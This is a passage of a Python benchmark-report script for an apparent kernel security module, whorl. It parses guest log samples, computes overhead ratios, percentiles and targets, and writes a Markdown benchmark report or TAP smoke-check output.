#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
# report.py - turn a benchmark guest's figure lines into docs/BENCHMARKS.md, or check them (--smoke).
#
#   report.py --data DATA.LOG --console CONSOLE.LOG --calibration FILE --guest-rc N
#             (--smoke | --out BENCHMARKS.md --meta KEY=VALUE...)
#
# The guest (tests/bench/t-*.sh) prints `# bench KEY VALUE` (one sample) and `# bench-info KEY TEXT`
# on its data channel. A cached workload's sample carries the mean time per iteration (KEY) and the
# percentiles of its iterations (KEY.p50, KEY.p10, KEY.min). Overheads are medians of per-round
# ratios (rounds alternate ABBA, so slow drift of a shared, emulated CPU cancels); IMA's are ratios
# of medians (its policy cannot be removed: before, then after). --smoke prints TAP, one line per
# figure, and exits non-zero if any is missing or not positive.
#
# --data-icount: the same cached workloads from a second guest whose clocks count instructions
# (QEMU -icount), where a run repeats to within a few instructions whatever the host is doing; the
# cached targets are judged on it, the wall-clock figures are shown beside it.
#
# --host: figures taken natively on the host after the guests (the same `# bench` lines): the
# relay's Sigma rules over the exec stream the wall-clock guest recorded, and its process tree.
import argparse
import math
import re
import statistics
import sys

MIB = 1 << 20
# The relay's process tree holding 100,000 live processes: its memory bound (WHORL_PROCTREE_BYTES,
# userspace/proctree.h, is this too: the tree's own accounting never passes it).
TREE_LIVE = 100000
TREE_BOUND = 64 * MIB
# The rules' throughput target, exec events per second on one core, and SigmaHQ's rule count.
RULES_EPS = 50000
SIGMAHQ_RULES = 122
# t-40's exec workloads: exec events on vs off.
EV = ("exec.static", "exec.dynamic")
CACHED = ("exec.static", "exec.dynamic", "mmap")
NAMES = {
    "exec.static": "fork + exec + wait, static program (image layer)",
    "exec.dynamic": "fork + exec + wait, `/usr/bin/true` (dynamic: ld.so maps libc)",
    "mmap": "mmap(PROT_EXEC) + munmap of liblzma (image layer)",
    "first": "first sight: fork + exec + wait of a new program of",
}


def parse(path):
    samples, info, tap = {}, {}, []
    with open(path, errors="replace") as f:
        for line in f:
            line = line.rstrip("\n")
            m = re.match(r"^# bench (\S+) (-?\d+)$", line)
            if m:
                samples.setdefault(m.group(1), []).append(int(m.group(2)))
                continue
            m = re.match(r"^# bench-info (\S+) ?(.*)$", line)
            if m:
                info.setdefault(m.group(1), []).append(m.group(2))
                continue
            m = re.match(r"^[a-z0-9_]+: (not ok|ok) (.*)$", line)
            if m:
                tap.append((m.group(1), m.group(2)))
    return samples, info, tap


def load_calibration(path):
    c = {}
    try:
        with open(path) as f:
            for line in f:
                p = line.split()
                if len(p) == 2 and p[1].isdigit():
                    c.setdefault(p[0], []).append(int(p[1]))
    except OSError:
        pass
    return c


def med(xs):
    return statistics.median(xs) if xs else None


def pct(xs, p):
    """Nearest-rank percentile."""
    if not xs:
        return None
    s = sorted(xs)
    return s[max(0, math.ceil(p / 100 * len(s)) - 1)]


def compare(s, base, on="on", off="off", paired=True):
    """One comparison of BASE.ON against BASE.OFF, by mean, per-iteration median and p10.

    paired: the median of per-round ratios (the samples alternate); otherwise the ratio of medians.
    """
    out = {"n": min(len(s.get(f"{base}.{on}", [])), len(s.get(f"{base}.{off}", [])))}
    for stat, suffix in (("mean", ""), ("p50", ".p50"), ("p10", ".p10")):
        a, b = s.get(f"{base}.{on}{suffix}", []), s.get(f"{base}.{off}{suffix}", [])
        out[f"{stat}.on"], out[f"{stat}.off"] = med(a), med(b)
        if paired:
            r = [x / y for x, y in zip(a, b) if y > 0]
            out[stat] = med(r)
            out[f"{stat}.lo"] = min(r) if r else None
            out[f"{stat}.hi"] = max(r) if r else None
        else:
            out[stat] = med(a) / med(b) if a and b and med(b) else None
    return out


def compute(s, info, c):
    v = {}
    for w in CACHED:
        v[w] = compare(s, w)
        v["ab." + w] = compare(s, "ab." + w)
        v["null." + w] = compare(s, "null." + w)
        v["nullp." + w] = compare(s, "nullp." + w)
        v["ima." + w] = compare(s, w, "ima-on", "ima-off", paired=False)
    for w in EV:
        v["ev." + w] = compare(s, w, "ev-on", "ev-off")
    v["execev.judged"] = med(s.get("execev.judged", []))
    v["execev.relay"] = med(s.get("execev.relay.ns_per_exec", []))
    rl = s.get("rule.latency.ns", [])
    v["rlat.n"], v["rlat.p50"], v["rlat.p99"] = len(rl), pct(rl, 50), pct(rl, 99)
    v["rlat.max"] = max(rl) if rl else None
    v["first"] = compare(s, "first")
    v["ima.first"] = compare(s, "first", "ima-on", "ima-off", paired=False)
    size = int((info.get("first.size") or ["0"])[0])
    v["size"] = size
    ks = s.get("hash.kernel.Bps", [])
    v["hash.kernel"] = med(ks)
    for t in ("openssl", "sha256sum", "busybox"):
        full, empty = s.get(f"hash.{t}.ns", []), s.get(f"hash.{t}.empty_ns", [])
        ns, e = med(full), med(empty)
        v[f"hash.{t}.raw"] = size * 1e9 / ns if ns and size else None
        v[f"hash.{t}.startup"] = e
        # less the command's start-up: the same command on an empty file
        v[f"hash.{t}"] = size * 1e9 / (ns - e) if ns and e and size and ns > e else None
        # per file: the kernel's rate over this command's, taken on that file right after
        us = [size * 1e9 / (a - b) if a > b else None for a, b in zip(full, empty)]
        r = [k / u for k, u in zip(ks, us) if u]
        v[f"hash.{t}.ratio"] = med(r)
        v[f"hash.{t}.ratio.lo"] = min(r) if r else None
        v[f"hash.{t}.ratio.hi"] = max(r) if r else None
        hns = med(c.get(f"host.{t}.ns", []))
        v[f"host.{t}"] = size * 1e9 / hns if hns and size else None
    lat = s.get("latency.ns", [])
    v["lat.n"], v["lat.p50"], v["lat.p99"] = len(lat), pct(lat, 50), pct(lat, 99)
    v["lat.max"] = max(lat) if lat else None
    for f in FLOODS:
        fl = s.get(f"fair.{f}.latency.ns", [])
        v[f"fair.{f}"] = {"n": len(fl), "p50": pct(fl, 50), "p99": pct(fl, 99),
                          "max": max(fl) if fl else None}
        for k in ("workDropped", "workOverShare", "readTimeouts",
                  "flooder.workOverShare", "victim.workOverShare"):
            xs = s.get(f"fair.{f}.{k}", [])
            v[f"fair.{f}"][k] = xs[-1] if xs else None
    for k, key in (("entry", "cache.entry_bytes"), ("intel.n", "intel.hashes"),
                   ("intel.bytes", "intel.bytes"), ("intel.load", "intel.load.ns"),
                   ("intel.user", "intel.load.user_ns"), ("intel.sys", "intel.load.sys_ns"),
                   ("vmalloc", "mem.vmalloc.delta_kB"), ("vmallocinfo", "mem.vmallocinfo.whorl_bytes"),
                   ("slab", "mem.slab.delta_kB"), ("sunreclaim", "mem.sunreclaim.delta_kB"),
                   ("ima.count", "ima.measurements.on")):
        v[k] = med(s.get(key, []))
    for w in ("exec.static", "exec.dynamic"):
        v[f"hooks.{w}"] = {k: med(s.get(f"hooks.{w}.{k}", [])) for k in (
            "hookExec", "hookMmap", "hookMprotect", "containerEvents")}
    v["host.parse"] = med(c.get("host.intel.parse.ns", []))
    v["host.parse.user"] = med(c.get("host.intel.parse.user_ns", []))
    v["first.busy"] = compare(s, "first", "busy", "off")
    ge, he = med(s.get("exec.static.off.p50", [])), med(c.get("host.exec.static.p50", []))
    v["guest.exec"], v["host.exec"] = ge, he
    v["tcg.exec"] = ge / he if ge and he else None
    for t in ("sha256sum", "openssl"):
        g, h = v[f"hash.{t}.raw"], v[f"host.{t}"]
        v[f"tcg.{t}"] = h / g if g and h else None
    return v


def fmt_pct(r):
    return "n/a" if r is None else f"{(r - 1) * 100:+.1f} %"


def fmt_range(x, stat):
    if x.get(f"{stat}.lo") is None:
        return ""
    return f" ({fmt_pct(x[f'{stat}.lo'])} … {fmt_pct(x[f'{stat}.hi'])})"


def fmt_ns(x):
    if x is None:
        return "n/a"
    if x >= 1e9:
        return f"{x / 1e9:.2f} s"
    if x >= 1e6:
        return f"{x / 1e6:.2f} ms"
    if x >= 1e3:
        return f"{x / 1e3:.1f} µs"
    return f"{x:.0f} ns"


def fmt_rate(x):
    return "n/a" if x is None else f"{x / 1e6:.1f} MB/s"


def fmt_insn(x):
    if x is None:
        return "n/a"
    if x >= 1e6:
        return f"{x / 1e6:,.2f} M insn"
    return f"{x:,.0f} insn"


def verdict(ok):
    return "n/a" if ok is None else ("**met**" if ok else "**missed**")


# t-30-fairness's floods, the quiet run first.
FLOODS = ("quiet", "files", "execs", "fuse")

# Every figure --smoke insists on: a key with at least one sample, every sample positive.
SMOKE_KEYS = [f"{p}{w}.{st}{sfx}" for p in ("", "ab.", "null.", "nullp.") for w in CACHED
              for st in ("on", "off") for sfx in ("", ".p50", ".p10")]
SMOKE_KEYS += [f"{w}.{st}" for w in CACHED + ("first",) for st in ("ima-on", "ima-off")]
SMOKE_KEYS += [
    "cache.hits.on", "memo.hits.on", "first.on", "first.off", "first.busy", "hash.kernel.Bps",
    "hooks.exec.static.hookExec", "hooks.exec.dynamic.hookMmap", "hooks.exec.dynamic.containerEvents",
    "hash.openssl.ns", "hash.sha256sum.ns", "hash.busybox.ns",
    "hash.openssl.empty_ns", "hash.sha256sum.empty_ns", "hash.busybox.empty_ns",
    "latency.ns", "cache.entry_bytes", "intel.load.ns", "intel.load.user_ns", "intel.hashes",
    "intel.bytes", "mem.vmalloc.delta_kB", "mem.vmallocinfo.whorl_bytes", "ima.measurements.on",
]
SMOKE_KEYS += [f"fair.{f}.latency.ns" for f in FLOODS]
# t-40: exec events on vs off, on both clocks; the rule's latency and the recorded stream, wall only
SMOKE_KEYS_EV = [f"{w}.{st}{sfx}" for w in EV for st in ("ev-on", "ev-off") for sfx in ("", ".p50", ".p10")]
SMOKE_KEYS_EV += ["execev.judged", "execev.relay.ns_per_exec"]
SMOKE_KEYS += SMOKE_KEYS_EV + ["rule.latency.ns", "stream.events"]
# ... and natively on the host
SMOKE_KEYS_HOST = ["stream.kept", "stream.images", "rules.loaded", "rules.eps", "relay.eps",
                   "tree.n", "tree.bytes", "tree.rss_bytes", "tree.hwm_bytes", "tree.str_bytes",
                   "tree.max", "tree.max_bytes", "tree.add_ns", "tree.long.n", "tree.long.bytes",
                   "tree.long.rss_bytes"]
# ... and of the instruction-clock guest: the cached workloads only.
SMOKE_KEYS_ICOUNT = [f"{p}{w}.{st}{sfx}" for p in ("", "ab.", "null.", "nullp.") for w in CACHED
                     for st in ("on", "off") for sfx in ("", ".p50", ".p10")]
SMOKE_KEYS_ICOUNT += [f"{w}.{st}" for w in CACHED + ("first",) for st in ("ima-on", "ima-off")]
SMOKE_KEYS_ICOUNT += ["first.on", "first.off", "first.busy", "hash.kernel.Bps"]
SMOKE_KEYS_ICOUNT += ["cache.hits.on", "memo.hits.on", "hooks.exec.static.hookExec",
                      "hooks.exec.dynamic.hookMmap", "ima.measurements.on"]
SMOKE_KEYS_ICOUNT += SMOKE_KEYS_EV
SMOKE_DERIVED_ICOUNT = [(f"overhead {p}{w} {st}", (lambda p, w, st: lambda v: v[p + w][st])(p, w, st))
                        for p in ("", "ab.", "ima.") for w in CACHED for st in ("mean", "p50")]
SMOKE_DERIVED_ICOUNT += [("overhead first", lambda v: v["first"]["mean"])]
SMOKE_DERIVED_EV = [(f"overhead ev.{w} {st}", (lambda w, st: lambda v: v["ev." + w][st])(w, st))
                    for w in EV for st in ("mean", "p50")]
SMOKE_DERIVED_ICOUNT += SMOKE_DERIVED_EV
SMOKE_DERIVED = [(f"overhead {p}{w} {st}", (lambda p, w, st: lambda v: v[p + w][st])(p, w, st))
                 for p in ("", "ab.", "null.", "nullp.", "ima.") for w in CACHED for st in ("mean", "p50")]
SMOKE_DERIVED += [
    ("overhead first", lambda v: v["first"]["mean"]),
    ("overhead ima.first", lambda v: v["ima.first"]["mean"]),
    ("hash rate kernel", lambda v: v["hash.kernel"]),
    ("hash ratio openssl", lambda v: v["hash.openssl.ratio"]),
    ("hash ratio sha256sum", lambda v: v["hash.sha256sum.ratio"]),
    ("latency p50", lambda v: v["lat.p50"]),
    ("latency p99", lambda v: v["lat.p99"]),
    ("rule latency p50", lambda v: v["rlat.p50"]),
    ("rule latency p99", lambda v: v["rlat.p99"]),
] + SMOKE_DERIVED_EV


def smoke(samples, v, tap, guest_rc, ic, hd):
    """ic: (samples, v, tap, rc) of the instruction-clock guest; hd: (samples, info) of the host."""
    bad = 0

    def line(ok, name, why=""):
        nonlocal bad
        if ok:
            print(f"ok {name}")
        else:
            bad += 1
            print(f"not ok {name} - {why}")

    def guest(prefix, samples, v, tap, rc, keys, derived):
        line(rc == 0, f"{prefix}guest run", f"tests/qemu/run.sh exited {rc}")
        for st, case in tap:
            if st == "not ok":
                line(False, f"{prefix}guest: {case.split(' - ')[0]}", case.partition(" - ")[2] or "failed")
        for k in keys:
            xs = samples.get(k, [])
            if not xs:
                line(False, prefix + k, "no sample")
            elif any(x <= 0 for x in xs):
                line(False, prefix + k, f"non-positive sample(s): {[x for x in xs if x <= 0]}")
            else:
                line(True, prefix + k)
        for name, f in derived:
            try:
                x = f(v)
            except (KeyError, TypeError):
                x = None
            line(x is not None and x > 0, prefix + name, f"computed {x!r}")

    guest("", samples, v, tap, guest_rc, SMOKE_KEYS, SMOKE_DERIVED)
    isamples, iv, itap, irc, _ = ic
    guest("icount: ", isamples, iv, itap, irc, SMOKE_KEYS_ICOUNT, SMOKE_DERIVED_ICOUNT)
    hs, hi = hd
    for k in SMOKE_KEYS_HOST:
        xs = hs.get(k, [])
        line(bool(xs) and all(x > 0 for x in xs), "host: " + k, f"samples {xs}")
    sig = (hi.get("rules.sigmahq") or ["absent"])[0]
    if sig.startswith("absent"):
        print(f"ok host: SigmaHQ's rules in the throughput # SKIP {sig}")
    else:
        line(min(hs.get("rules.loaded", [0])) >= SIGMAHQ_RULES, "host: SigmaHQ's rules in the throughput",
             f"rules loaded {hs.get('rules.loaded')}, {sig}")
    print(f"# {bad} failed")
    return 1 if bad else 0


def markdown(v, samples, info, meta, console, guest_rc, tap, ic, hd):
    isamples, iv, itap, irc, iinfo = ic
    hs, hi = hd

    def hmed(k):
        return med(hs.get(k, []))

    def hinfo(k):
        return (hi.get(k) or ["n/a"])[0]
    iinfo_driver = iinfo.get("hash.kernel.driver")
    m = dict(kv.split("=", 1) for kv in meta)
    L = []
    a = L.append
    size = v["size"]
    size_s = f"{size // MIB} MiB" if size else "n/a"

    def gi(k):
        return (info.get(k) or ["n/a"])[0]

    a("<!-- SPDX-License-Identifier: GPL-2.0 -->")
    a("# Benchmarks")
    a("")
    a("Written by `make bench` (`bash tests/bench.sh`); do not edit by hand. What whorl costs a")
    a("container host, measured in QEMU guests: the module loaded against the same guest with it")
    a("unloaded, and the kernel's own IMA on the same workloads.")
    a("")
    a("**Two clocks.** The guests run under TCG (no KVM on the build machine) on a CPU shared with")
    a("other work, so wall time there is many times a real machine's and wanders between rounds by")
    a("more than the 2 % and 5 % targets. So the benchmark boots the same kernel, module and")
    a("container twice:")
    a("")
    a("- the **wall-clock guest** (each vCPU on its own host thread, as a real 2-CPU machine runs the")
    a("  worker's hash beside the exec) measures everything: cached and first-sight execs, hashing")
    a("  speed, finding latency, memory, intel load time, IMA;")
    a("- the **instruction-clock guest** (QEMU `-icount shift=0`: the guest's clocks advance one")
    a("  nanosecond per instruction executed, whatever the host does) repeats the cached exec and")
    a("  mmap workloads and the first sights, whorl's and IMA's. There a run repeats to within a few")
    a("  instructions, so a 2 % difference is a measurement, not noise. It counts instructions, not")
    a("  cycles (a cache miss costs one instruction there): the figure of record for the cached and")
    a("  first-sight targets, with the wall-clock figures beside it.")
    a("")
    a("Only ratios taken inside one boot are compared, between runs that alternate (ABBA). Each")
    a("cached run times every iteration: the mean, the median (p50) and the 10th percentile (p10) of")
    a("the iterations are kept; the targets are judged on the median.")
    a("")
    a("## Machine and run")
    a("")
    a("| | |")
    a("|---|---|")
    a(f"| command | `{m.get('command', 'n/a')}` |")
    a(f"| date | {m.get('date', 'n/a')} |")
    a(f"| host | {m.get('host', 'n/a')} |")
    a(f"| guest kernel | {gi('kernel')} |")
    a(f"| guest | {m.get('guest', 'n/a')} |")
    a(f"| guest CPU | {gi('cpu')} |")
    a(f"| QEMU | {m.get('qemu', 'n/a')} |")
    a(f"| host load average | {m.get('load', 'n/a')} |")
    a(f"| wall time | {m.get('wall', 'n/a')} s |")
    a(f"| parameters | `{m.get('params', 'n/a').strip()}` |")
    a(f"| parameters, instruction clock | `{m.get('params_icount', 'n/a').strip()}` |")
    a(f"| guest (instruction clock) | {m.get('guest_icount', 'n/a')} |")
    a(f"| guest verdict | {'passed' if guest_rc == 0 else 'FAILED (see build/logs/bench/)'}; instruction clock: "
      f"{'passed' if irc == 0 else 'FAILED (see build/logs/bench-icount/)'} |")
    a(f"| containers | {gi('container')} |")
    a(f"| kernel SHA-256 driver (whorl) | `{gi('hash.kernel.driver')}`; instruction clock: "
      f"`{(iinfo_driver or ['n/a'])[0]}` |")
    a("")

    a("## Targets")
    a("")
    a("| target | measured | verdict |")
    a("|---|---|---|")
    rows = []
    for w, lim, what in (("exec.static", 1.02, "cached exec ≤ 2 %, static program"),
                         ("exec.dynamic", 1.02, "cached exec ≤ 2 %, dynamic `/usr/bin/true`"),
                         ("mmap", 1.05, "cached mmap ≤ 5 %")):
        for vv, clock in ((iv, "instruction clock"), (v, "wall clock")):
            for p, how in (("", "module loaded vs unloaded"),
                           ("ab.", "kprobes armed vs disarmed, module loaded")):
                x = vv[p + w]
                r = x["p50"]
                rows.append((f"{what}: {how}, {clock}",
                             f"p50 {fmt_pct(r)}{fmt_range(x, 'p50')}; p10 {fmt_pct(x['p10'])}; "
                             f"mean {fmt_pct(x['mean'])}",
                             verdict(None if r is None else r <= lim) +
                             ("" if vv is iv else " (wall clock: see the ranges)")))
    for w, what in (("exec.static", "static program"), ("exec.dynamic", "dynamic `/usr/bin/true`")):
        for vv, clock in ((iv, "instruction clock"), (v, "wall clock")):
            x = vv["ev." + w]
            r = x["p50"]
            rows.append((f"cached exec ≤ 2 % with exec events and context capture on, {what}: exec events on vs "
                         f"off, module loaded, a relay with the shipped rules consuming them, {clock}",
                         f"p50 {fmt_pct(r)}{fmt_range(x, 'p50')}; p10 {fmt_pct(x['p10'])}; mean {fmt_pct(x['mean'])}; "
                         f"{x['n']} round pairs",
                         verdict(None if r is None else r <= 1.02) +
                         ("" if vv is iv else " (wall clock: see the ranges)")))
    for vv, where, control, suffix in (
            (iv, "the hash on the exec's own CPU, instruction clock",
             "spinner at nice 0 on that CPU", ""),
            (v, "wherever the scheduler puts the hash, wall clock",
             "CPU busy during the exec", " (wall clock: see the ranges)")):
        x, y = vv["first"], vv["first.busy"]
        r = x["mean"]
        rows.append((f"first-sight added exec latency ≤ 5 % at {size_s}: {where}",
                     f"{fmt_pct(r)}{fmt_range(x, 'mean')}, n = {x['n']}; the control, no module but a "
                     f"{control}: {fmt_pct(y['mean'])}",
                     verdict(None if r is None else r <= 1.05) + suffix))
    for vv, clock in ((v, "wall clock"), (iv, "instruction clock")):
        k = vv["hash.kernel"]
        for tool, label in (("openssl", "`openssl dgst -sha256`"), ("sha256sum", "coreutils `sha256sum`")):
            r = vv[f"hash.{tool}.ratio"]
            rows.append((f"kernel hashing ≥ 90 % of {label} on the same file, {clock}",
                         "n/a" if r is None else
                         f"{r * 100:.0f} % (files {vv[f'hash.{tool}.ratio.lo'] * 100:.0f} … "
                         f"{vv[f'hash.{tool}.ratio.hi'] * 100:.0f} %; {fmt_rate(k)} vs "
                         f"{fmt_rate(vv[f'hash.{tool}'])})",
                         verdict(None if r is None else r >= 0.9)))
    e = v["entry"]
    rows.append(("≤ 128 bytes of kernel memory per cache entry", "n/a" if e is None else f"{e} bytes",
                 verdict(None if e is None else e <= 128)))
    ib, n, vm = v["intel.bytes"], v["intel.n"], v["vmalloc"]
    rows.append((f"{n or 0:,} intel hashes in ≤ 48 MiB: the module's figure",
                 "n/a" if ib is None else f"{ib / MIB:.1f} MiB", verdict(None if ib is None else ib <= 48 * MIB)))
    rows.append(("… the same, by the kernel's VmallocUsed delta",
                 "n/a" if vm is None else f"{vm / 1024:.1f} MiB", verdict(None if vm is None else vm * 1024 <= 48 * MIB)))
    load = v["intel.load"]
    rows.append((f"{n or 0:,} intel hashes loaded in ≤ 3 s (in the emulated guest)",
                 fmt_ns(load), verdict(None if load is None else load <= 3e9)))
    gu, hu = v["intel.user"], v["host.parse.user"]
    if load and gu and hu:
        f = gu / hu
        rows.append(("… scaled to native speed by the tool's own slowdown (an estimate)",
                     f"≈ {load / f / 1e9:.2f} s: the guest's {fmt_ns(load)} ÷ {f:.1f}, the guest/host ratio of "
                     f"the tool's CPU time parsing this feed ({fmt_ns(gu)} vs {fmt_ns(hu)} on the host)",
                     verdict(load / f <= 3e9) + " (estimate)"))
    eps, rloaded = hmed("rules.eps"), hmed("rules.loaded")
    sig = hinfo("rules.sigmahq")
    if sig.startswith("absent") or sig == "n/a":
        ok, note = None, f" (SigmaHQ's rules {sig}: the shipped rules alone)"
    else:
        ok, note = (None if eps is None else eps >= RULES_EPS), ""
    rows.append((f"the relay's Sigma rules, all shipped + SigmaHQ's {SIGMAHQ_RULES}, ≥ {RULES_EPS:,} exec events/s "
                 "on one core, natively (`whorl rules bench`, the stream recorded in the guest)",
                 "n/a" if eps is None else
                 f"{eps:,.0f} events/s ({rloaded:.0f} rules; runs {', '.join(f'{x:,}' for x in hs.get('rules.eps', []))})"
                 + note,
                 verdict(ok)))
    tn, tev, trss, tb = hmed("tree.n"), hmed("tree.evicted"), hmed("tree.rss_bytes"), hmed("tree.bytes")
    tok = None if None in (tn, tev, trss) else (tn >= TREE_LIVE and tev == 0 and trss <= TREE_BOUND)
    rows.append((f"the relay's process tree ≤ {TREE_BOUND // MIB} MiB with {TREE_LIVE:,} live processes, natively "
                 "(the process's RSS growth; none evicted)",
                 "n/a" if None in (tn, trss, tb) else
                 f"{trss / MIB:.1f} MiB ({tn:,.0f} held, {tev:.0f} evicted; the tree's own count {tb / MIB:.1f} MiB)",
                 verdict(tok)))
    for r in rows:
        a(f"| {r[0]} | {r[1]} | {r[2]} |")
    a("")

    a("## Cached exec and mmap")
    a("")
    a("In a runc container of the e2e image, the module's cache warm (checked: during each timed")
    a("loaded round the module hashed nothing). An executable mapping the module has judged before")
    a("(the same unchanged file, mapped again under the same intel and configuration) is answered")
    a("by a per-CPU memo without the full judgement; per round, the memo answered "
      f"{min(isamples.get('memo.hits.on', [0]))} to {max(isamples.get('memo.hits.on', [0]))} mappings "
      "and the fingerprint cache "
      f"{min(isamples.get('cache.hits.on', [0]))} to {max(isamples.get('cache.hits.on', [0]))} lookups "
      "(instruction clock). Time per iteration; overheads are medians of the per-round (per block")
    a("pair) ratios, range in brackets.")
    a("")
    a("**Module loaded vs unloaded**, in alternating rounds (a module load empties the cache: each")
    a("loaded round starts by warming it). **Kprobes armed vs disarmed**, module loaded: the cache")
    a("stays warm and the kernel's kprobes, which carry the module's exec and mmap hooks, are")
    a("switched on and off through `/sys/kernel/debug/kprobes/enabled` between blocks of one run in")
    a("the container (ABBA); it leaves out only the module's `sched_process_exec` tracepoint")
    a("callback, which returns at once when no exec is pending (an atomic read).")
    a("")

    def cached_table(vv, prefix, on, off, unit):
        a(f"| workload | p50 {on} | p50 {off} | overhead p50 | overhead p10 | overhead mean | rounds |")
        a("|---|---|---|---|---|---|---|")
        for w in CACHED:
            x = vv[prefix + w]
            a(f"| {NAMES[w]} | {unit(x['p50.on'])} | {unit(x['p50.off'])} | {fmt_pct(x['p50'])}"
              f"{fmt_range(x, 'p50')} | {fmt_pct(x['p10'])}{fmt_range(x, 'p10')} | {fmt_pct(x['mean'])}"
              f"{fmt_range(x, 'mean')} | {x['n']} |")
        a("")

    a("### Instruction clock (the figures of record)")
    a("")
    a("Times read as instructions (1 ns = 1 instruction).")
    a("")
    a("Module loaded vs unloaded:")
    a("")
    cached_table(iv, "", "loaded", "unloaded", fmt_insn)
    a("Kprobes armed vs disarmed:")
    a("")
    cached_table(iv, "ab.", "armed", "disarmed", fmt_insn)
    a("### Wall clock")
    a("")
    a("The same, in the wall-clock guest. Loading the module takes seconds under emulation, so")
    a("loaded/unloaded rounds are far apart and the host's load moves between them.")
    a("")
    cached_table(v, "", "loaded", "unloaded", fmt_ns)
    cached_table(v, "ab.", "armed", "disarmed", fmt_ns)
    a("### Exec events on vs off")
    a("")
    a("The module loaded, its cache warm, and a relay started with the shipped rules (`whorl relay")
    a("--rules`, rules/ as packaged: it turns exec events on and judges every exec) running")
    a("throughout; between rounds `whorl config --exec-events on|off` switches the module's exec")
    a("events (ABBA, tests/bench/t-40-execev.sh). On, each exec in a container also captures its")
    a("context in the kernel (working directory, user, stdio and a socket's peer, the allow-listed")
    a("environment from up to 64 KiB of it) and the worker sends it as `WHORL_CMD_EXEC` to the relay,")
    a("which records it in its process tree and matches it against every rule. On the instruction")
    a("clock the two vCPUs take turns on one host thread and every instruction advances the clock,")
    a("so the worker's and the relay's work for an exec counts in its time wherever it runs. The")
    a(f"relay judged {iv['execev.judged'] or 0:.0f} execs in the on rounds (instruction clock; "
      f"{v['execev.judged'] or 0:.0f} on the wall clock; lost by the kernel: "
      f"{', '.join(str(x) for x in isamples.get('execev.lost', []) + samples.get('execev.lost', [])) or 'n/a'}).")
    a("The relay's own CPU time over the on rounds, per exec (its schedstat): "
      f"{fmt_insn(iv['execev.relay'])} on the instruction clock, {fmt_ns(v['execev.relay'])} on the wall clock.")
    a("")
    a("| workload | clock | p50 on | p50 off | overhead p50 | overhead p10 | overhead mean | rounds |")
    a("|---|---|---|---|---|---|---|---|")
    for w in EV:
        for vv, clock, unit in ((iv, "instruction", fmt_insn), (v, "wall", fmt_ns)):
            x = vv["ev." + w]
            a(f"| {NAMES[w]} | {clock} | {unit(x['p50.on'])} | {unit(x['p50.off'])} | {fmt_pct(x['p50'])}"
              f"{fmt_range(x, 'p50')} | {fmt_pct(x['p10'])}{fmt_range(x, 'p10')} | {fmt_pct(x['mean'])}"
              f"{fmt_range(x, 'mean')} | {x['n']} |")
    a("")
    a("### Where the instructions go")
    a("")
    a("The armed/disarmed blocks again with the module unloaded and empty probes in its place, on the")
    a("three functions it hooks (`security_bprm_check`, `security_mmap_file`,")
    a("`security_file_mprotect`): tracefs kprobe events, enabled, recording nothing (`tracing_on` 0),")
    a("as plain kprobes (`p:`, entry only: what the module registers, detecting or enforcing) and as")
    a("kretprobes (`r:`, entry and return: a reference; the module's refusals return from its entry")
    a("kprobes and it registers none). The probes fire on every call, every mmap included,")
    a("executable or not; what whorl adds beyond the empty kprobes is its handlers. Instruction clock,")
    a("medians per iteration.")
    a("")
    a("| workload | whorl (armed − disarmed) | empty kprobes | empty kretprobes | whorl's handlers (whorl − empty kprobes) |")
    a("|---|---|---|---|---|")
    for w in CACHED:
        x, y, z = iv["ab." + w], iv["nullp." + w], iv["null." + w]

        def d(q):
            return None if None in (q["p50.on"], q["p50.off"]) else q["p50.on"] - q["p50.off"]

        dx, dy, dz = d(x), d(y), d(z)
        a(f"| {NAMES[w]} | {fmt_insn(dx)} ({fmt_pct(x['p50'])}) | {fmt_insn(dy)} ({fmt_pct(y['p50'])}) | "
          f"{fmt_insn(dz)} ({fmt_pct(z['p50'])}) | {'n/a' if None in (dx, dy) else fmt_insn(dx - dy)} |")
    a("")
    a("How often the hooks fire per iteration (the module's counters around 5 and 25 iterations;")
    a("`containerEvents`: calls that got past the first checks and were judged in full):")
    a("")
    a("| per iteration | hookExec | hookMmap | hookMprotect | containerEvents |")
    a("|---|---|---|---|---|")
    for w in ("exec.static", "exec.dynamic"):
        h = iv.get(f"hooks.{w}") or {}
        cells = " | ".join("n/a" if h.get(k) is None else f"{h[k] / 1000:.2f}"
                           for k in ("hookExec", "hookMmap", "hookMprotect", "containerEvents"))
        a(f"| {NAMES[w]} | {cells} |")
    a("")
    for k, what in (("trace.mmap", "one executable mmap of the cached library (`hook_mmap_file`)"),
                    ("trace.bprm", "one exec of the cached static program (`hook_bprm_check`)")):
        t = info.get(k, [])
        if t:
            a(f"The handler on {what}, as ftrace's function_graph tracer records it (children to")
            a("depth 5). Tracing inflates each recorded call (about a microsecond each under TCG), so")
            a("read the tree for what is called, not for the durations:")
            a("")
            a("```")
            for y in t:
                a(y)
            a("```")
            a("")
    a("## First sight")
    a("")
    a(f"A new {size_s} program (the static nop padded with fresh bytes: still a valid ELF that runs),")
    a("written in the container's upper layer, then one fork + exec + wait of it, timed. With the")
    a("module loaded it is hashed on the worker after the exec, asynchronously; the timing ends when")
    a("the program has exited. Rounds alternate loaded/unloaded; each loaded round waits for the hash.")
    a("")
    a("The control (\"busy\"): the module unloaded and, from just before the exec until it is")
    a("timed, a child of the benchmark spinning on a CPU, as the worker's hash does. If the loaded")
    a("exec is no slower than the busy one, what the module adds to a first sight is the CPU its")
    a("hash takes from a 2-CPU guest on a shared host, not time inside the exec.")
    a("")
    def first_table(vv, ss, unit):
        x, y = vv["first"], vv["first.busy"]
        a("| | median | against unloaded (median of round ratios) | samples |")
        a("|---|---|---|---|")
        a(f"| module loaded | {unit(x['mean.on'])} | {fmt_pct(x['mean'])}{fmt_range(x, 'mean')} | "
          f"{', '.join(unit(z) for z in ss.get('first.on', []))} |")
        a(f"| unloaded, a CPU busy (control) | {unit(y['mean.on'])} | {fmt_pct(y['mean'])}{fmt_range(y, 'mean')} | "
          f"{', '.join(unit(z) for z in ss.get('first.busy', []))} |")
        a(f"| unloaded | {unit(x['mean.off'])} | — | {', '.join(unit(z) for z in ss.get('first.off', []))} |")
        a("")

    a("**On the exec's own CPU, instruction clock.** The program, the control's spinner and the")
    a("module's workers (its `whorl/N` threads, by `taskset`; and every unbound workqueue)")
    a("all on CPU 0, where the guest's scheduler shares it out: the worst placement for whorl. The")
    a("worker hashes at `hash_nice` 19 and offers the CPU back between 16 KiB steps; the control's")
    a("spinner runs at nice 0, as a hash at the default nice would. Times in instructions.")
    a("")
    first_table(iv, isamples, fmt_insn)
